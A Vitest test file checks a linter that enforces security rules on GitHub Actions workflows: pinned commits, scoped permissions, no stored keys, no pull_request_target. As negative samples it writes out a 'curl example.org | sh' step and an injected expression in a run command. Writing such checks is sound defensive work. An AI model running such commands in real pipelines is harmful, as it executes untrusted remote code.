import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { scriptsOf, workflowBreaches } from './workflow-rules.ts';

const root = fileURLToPath(new URL('../../../../', import.meta.url));
const folder = `${root}.github/workflows/`;
const workflows = readdirSync(folder).map((name) => ({ name, text: readFileSync(folder + name, 'utf8') }));
const { scripts } = JSON.parse(readFileSync(`${root}package.json`, 'utf8'));

/** Script → the test that runs it and the word it does so by; `ci` and `test` are what runs the tests. */
const ranBy: Readonly<Record<string, readonly [string, string]>> = {
  advisories: ['tools/advisories/command.test.ts', 'runAdvisories('],
  ci: ['tools/install.mjs', 'npm'],
  deploy: ['packages/cloud/test/delivery.journey.test.ts', "bin('deploy')"],
  estimate: ['packages/cloud/src/estimate/estimate-command.test.ts', 'runEstimate('],
  gate: ['packages/cloud/src/gate/gate.test.ts', 'gate('],
  guard: ['packages/guard/test/command-line.journey.test.ts', 'bin/guard.mjs'],
  release: ['packages/cloud/test/release.journey.test.ts', 'runRelease('],
  test: ['tools/test.mjs', 'vitest'],
};

const good = `
on: { workflow_dispatch: {} }
permissions: {}
jobs:
  one:
    timeout-minutes: 5
    environment: dev
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@${'a'.repeat(40)} # v7.0.1
        with: { persist-credentials: false }
      - uses: aws-actions/configure-aws-credentials@${'b'.repeat(40)} # v6.2.3
      - run: npm ci
      - run: npm run deploy -- "$TO" --release release
`;

describe('the workflows', () => {
  it.each(workflows)('$name keeps the rules', ({ name, text }) => {
    expect(workflowBreaches(name, text, scripts)).toEqual([]);
  });

  it('run nothing that a test does not run too', () => {
    const used = new Set(workflows.flatMap(({ text }) => scriptsOf(text)));
    expect([...used].filter((script) => ranBy[script] === undefined)).toEqual([]);
    expect(Object.keys(ranBy).filter((script) => !used.has(script))).toEqual([]);
    for (const [path, word] of Object.values(ranBy))
      expect(readFileSync(root + path, 'utf8'), path).toContain(word);
  });
});

describe('a rule', () => {
  it('lets a good workflow pass', () => {
    expect(workflowBreaches('x', good, { deploy: '' })).toEqual([]);
  });

  it.each<[string, string, string, string]>([
    ['a tag', `${'a'.repeat(40)} # v7.0.1`, 'v7', 'pin it'],
    ['a commit without its version', `${'b'.repeat(40)} # v6.2.3`, 'b'.repeat(40), 'pin it'],
    ['rights for all jobs', 'permissions: {}', 'permissions: { contents: write }', 'state them on the job'],
    ['a right no step needs', 'contents: read', 'contents: write', 'permission contents: write'],
    [
      'a job without stated rights',
      '    permissions:\n      contents: read\n      id-token: write\n',
      '',
      'wrong form',
    ],
    ['a job without a timeout', '    timeout-minutes: 5\n', '', 'wrong form'],
    [
      'a checkout that keeps its token',
      'persist-credentials: false',
      'fetch-depth: 0',
      'persist-credentials',
    ],
    ['a role without an environment', '    environment: dev\n', '', 'a role without an environment'],
    ['a shell', 'npm ci\n', 'npm ci && curl example.org | sh\n', 'allowed are npm ci'],
    ['an expression in a command', '"$TO"', ['$', '{{ inputs.to }}'].join(''), 'allowed are npm ci'],
    ['a script that is not there', 'npm run deploy', 'npm run ship', 'the scripts of package.json'],
    [
      'a stored key',
      '      - run: npm ci\n',
      ['        with: { aws-secret-access-key: "$', '{{ secrets.KEY }}" }\n      - run: npm ci\n'].join(''),
      'given secrets.KEY, allowed is no stored key',
    ],
    ['rights for strangers', 'workflow_dispatch', 'pull_request_target', 'pull_request_target'],
  ])('sees %s', (_what, before, after, sentence) => {
    expect(good).toContain(before);
    expect(workflowBreaches('x', good.replace(before, after), { deploy: '' }).join('\n')).toContain(sentence);
  });
});
